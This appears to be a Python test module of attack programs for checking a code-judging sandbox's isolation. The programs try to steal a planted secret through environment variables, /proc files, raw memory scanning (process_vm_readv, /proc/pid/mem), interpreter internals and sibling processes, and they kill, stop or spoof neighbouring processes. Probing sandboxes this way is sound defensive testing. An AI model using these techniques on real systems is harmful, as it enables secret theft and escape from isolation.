"""What the harness, the sandbox's server and other programs know: environment, source, input, folders, memory."""

from .attack import Attack, See, reached, second_differs, told, told_secret

# A neighbour keeps the secret in its source, its memory, a file, its input and its environment.
NEIGHBOUR = """
import os
kept = [SECRET, SECRET.encode()]
open('answer.txt', 'w').write(SECRET)
os.environ['ANSWER'] = SECRET
input()
"""
_WAITING = NEIGHBOUR + "import time\ntime.sleep(0.6)\n"

# Finds what looks like a secret in a piece of memory. The pattern does not match itself, nor this program.
_SEARCH = """
import re
pattern = re.compile(b'SECRET' + b'-[0-9a-f]{32}')

def report(piece):
    for found in set(pattern.findall(piece)):
        os.write(1, found + b'\\n')
"""

# A pipe tells which addresses can be read: write() from others is an error, not a crash.
_SCAN = (
    _SEARCH
    + """
def scan(start, size):
    reader, writer = os.pipe()
    pieces = []
    for address in range(start & -4096, start + size, 4096):
        if libc.write(writer, ctypes.c_void_p(address), 4096) == 4096:
            pieces.append(os.read(reader, 4096))
        if len(pieces) == 256:
            report(b''.join(pieces))
            pieces = pieces[-1:]  # what lies across two pieces
    report(b''.join(pieces))
"""
)

_MAPS = (
    _SEARCH
    + """
def search(process):
    with open(f'/proc/{process}/mem', 'rb', 0) as memory:
        for line in open(f'/proc/{process}/maps'):
            start, end = (int(x, 16) for x in line.split()[0].split('-'))
            if ' rw' in line and end - start < 1 << 26:
                memory.seek(start)
                try:
                    report(memory.read(end - start))
                except OSError:
                    pass
"""
)

_SIBLINGS = """
def siblings():
    for name in filter(str.isdigit, os.listdir('/proc')):
        try:
            parent = int(open(f'/proc/{name}/stat').read().rpartition(')')[2].split()[1])
        except (OSError, ValueError):
            continue
        if parent == os.getppid() and int(name) != os.getpid():
            yield name
"""

_PLAIN = {
    "environment": ("print([value for value in os.environ.values() if value.startswith('SECRET')])", told_secret),
    "environment_of_own_process": ("print(open('/proc/self/environ').read())", told_secret),
    "environment_of_the_parent": (
        "print(digest(open(f'/proc/{os.getppid()}/environ', 'rb').read()))",
        told("HARNESS_ENVIRONMENT"),
    ),
    "environment_of_a_victim": ("print(open(f'/proc/{VICTIM}/environ').read())", told_secret),
    "command_line_of_the_harness": (
        "print(digest(open(f'/proc/{HARNESS}/cmdline', 'rb').read()))",
        told("HARNESS_COMMAND_LINE"),
    ),
    "command_lines_of_all": (
        """
import glob
for name in glob.glob('/proc/[0-9]*/cmdline'):
    try:
        print(digest(open(name, 'rb').read()))
    except OSError:
        pass
""",
        told("HARNESS_COMMAND_LINE"),
    ),
    "folder_of_the_harness": ("print(digest(os.readlink(f'/proc/{HARNESS}/cwd').encode()))", told("HARNESS_FOLDER")),
    "file_read_through_every_folder_above": (
        """
for _ in range(10):
    os.chdir('..')
    if os.path.exists('secret'):
        print(open('secret').read())
""",
        told_secret,
    ),
}

_BEFORE = {  # of the program that ran before, in the naive judge's own process
    "source_through_the_collector": """
import gc
for thing in gc.get_objects():
    for part in gc.get_referents(thing):
        if isinstance(part, str) and 'SECRET' + '-' in part:
            print(part)
""",
    "source_through_the_frames": """
frame = sys._getframe()
while frame:
    print(frame.f_locals)
    frame = frame.f_back
""",
    "source_through_the_main_module": "print(vars(sys.modules['__main__']))",
    "source_through_every_module": "for module in list(sys.modules.values()): print(vars(module))",
    "source_through_the_compiled_code": """
import gc
for function in gc.get_objects():
    if hasattr(function, '__globals__'):
        print({k: v for k, v in function.__globals__.items() if isinstance(v, (str, list))})
""",
    "memory_near_an_object": _SCAN + "scan(id(object()) - (1 << 24), 1 << 25)",
    "memory_on_the_heap": _SCAN + "libc.sbrk.restype = ctypes.c_long\nscan(libc.sbrk(0) - (1 << 24), 1 << 24)",
    "memory_through_proc": _MAPS + "search('self')",
    "memory_through_own_process_id": _SEARCH
    + """
size = 1 << 25
room = ctypes.create_string_buffer(size)
local, remote, one = (ctypes.c_uint64 * 2)(0, 4096), (ctypes.c_uint64 * 2)(0, 4096), ctypes.c_ulong(1)
start = id(object()) - size // 2 & -4096
for offset in range(0, size, 4096):
    local[0] = ctypes.addressof(room) + offset
    remote[0] = start + offset
    libc.process_vm_readv(os.getpid(), local, one, remote, one, ctypes.c_ulong(0))
report(room.raw)
""",
    "file_in_the_folder": "print(open('answer.txt').read())",
    "files_below_the_folder_above": """
for folder, _, names in os.walk('..'):
    if 'answer.txt' in names:
        print(open(folder + '/answer.txt').read())
""",
    "variable_in_the_environment": "print(os.environ['ANSWER'])",
    "jobs_of_the_judge": "print(open(sys.argv[1]).read())",
}

_BESIDE = {  # of the program that runs at the same time
    "file_of_a_running_program": """
import time
time.sleep(0.2)
for place in ('..', '/tmp', os.path.dirname(OUT) + '/..'):
    for folder, _, names in os.walk(place):
        if 'answer.txt' in names:
            print(open(folder + '/answer.txt').read())
""",
    "memory_of_a_running_program": _SIBLINGS
    + _MAPS
    + """
import time
time.sleep(0.2)
for name in siblings():
    try:
        search(name)
    except OSError:
        pass
""",
    "source_of_a_running_program": """
import glob
import time
time.sleep(0.2)
for name in glob.glob('/proc/[0-9]*/cwd'):
    for place in ('program.py', '../beside.py'):
        try:
            print(open(name + '/' + place).read())
        except OSError:
            pass
""",
}

# The leading end of a pair: right only if the other end answers what it cannot know.
ASKING = """
import os
import socket
kept = [SECRET, SECRET.encode()]
open('answer.txt', 'w').write(SECRET)
link = socket.socket(fileno=3)
link.settimeout(0.8)
try:
    link.sendall(b'what do I know?')
    answer = link.recv(100)
except OSError:  # it is gone, or silent
    answer = b''
print('right' if answer == SECRET.encode() else 'wrong')
"""
_ANSWER = """
import socket
link = socket.socket(fileno=3)
link.recv(100)
"""
_PAIRED: dict[str, tuple[str, See]] = {
    "pair_answer_from_a_file": (
        _ANSWER
        + """
for folder, _, names in os.walk('..'):
    if 'answer.txt' in names:
        link.sendall(open(folder + '/answer.txt', 'rb').read())
""",
        second_differs(b"wrong\n"),
    ),
    "pair_answer_from_memory": (
        _ANSWER
        + _SIBLINGS
        + _MAPS
        + """
def report(piece):
    for found in pattern.findall(piece)[:1]:
        link.sendall(found)
        os._exit(0)

for name in siblings():
    search(name)
""",
        second_differs(b"wrong\n"),
    ),
    "pair_output_of_the_other": (
        _ANSWER + _SIBLINGS + "for name in siblings(): open(f'/proc/{name}/fd/1', 'a').write('right\\n' * 3)",
        second_differs(b"wrong\n"),
    ),
    "pair_other_end_killed": (
        _ANSWER + _SIBLINGS + "for name in siblings(): os.kill(int(name), 9)",
        second_differs(b"wrong\n"),
    ),
    "pair_other_end_stopped": (
        _ANSWER
        + _SIBLINGS
        + "import time\nfor name in siblings(): os.kill(int(name), 19); time.sleep(0.2); os.kill(int(name), 9)",
        second_differs(b"wrong\n"),
    ),
    "pair_maker_by_its_pidfd": (
        """
import socket
link = socket.socket(fileno=3)
descriptor = link.getsockopt(socket.SOL_SOCKET, 77)
call(424, descriptor, 0, 0, 0)
""",
        reached(),
    ),
    "pair_descriptor_of_the_maker": (
        """
import socket
link = socket.socket(fileno=3)
descriptor = link.getsockopt(socket.SOL_SOCKET, 77)
call(438, descriptor, 1, 0)
""",
        reached(),
    ),
    "pair_process_of_the_maker": (
        """
import socket
import struct
link = socket.socket(fileno=3)
pid, user, group = struct.unpack('iii', link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
call(62, pid or 1 << 22, 0)
""",
        reached(),
    ),
}

ATTACKS = (
    *(Attack(name, "secrets", source, seen) for name, (source, seen) in _PLAIN.items()),
    *(Attack(name, "secrets", source, told_secret, before=NEIGHBOUR, naive=True) for name, source in _BEFORE.items()),
    *(Attack(name, "secrets", source, told_secret, beside=_WAITING) for name, source in _BESIDE.items()),
    *(Attack(name, "secrets", source, seen, second=ASKING) for name, (source, seen) in _PAIRED.items()),
)
